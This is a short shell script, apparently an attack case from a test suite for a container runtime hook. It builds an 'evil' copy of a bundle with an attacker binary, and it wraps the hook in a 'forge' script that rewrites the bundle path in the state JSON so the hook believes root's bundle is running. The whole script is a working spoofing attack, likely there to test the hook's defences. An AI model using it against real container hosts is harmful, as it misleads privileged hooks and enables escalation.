. "$LIB"
# The bundle that runs is the attacker's; its hook is told of root's.
cp -a "$BUNDLE" "$WORK/evil" 2>/dev/null || true
rm -rf "$WORK/evil/upper" "$WORK/evil/work"
cp "$EVIL" "$WORK/evil/rootfs/bin/app"
printf '#!/bin/sh\nsed "s,\"bundle\":\"[^\"]*\",\"bundle\":\"%s\"," | "%s"\n' "$BUNDLE" "$HOOK" >"$WORK/forge"
chmod 755 "$WORK/forge"
sed -i "s,$HOOK,$WORK/forge," "$WORK/evil/config.json"
$RUNC run --bundle "$WORK/evil" attack-forged
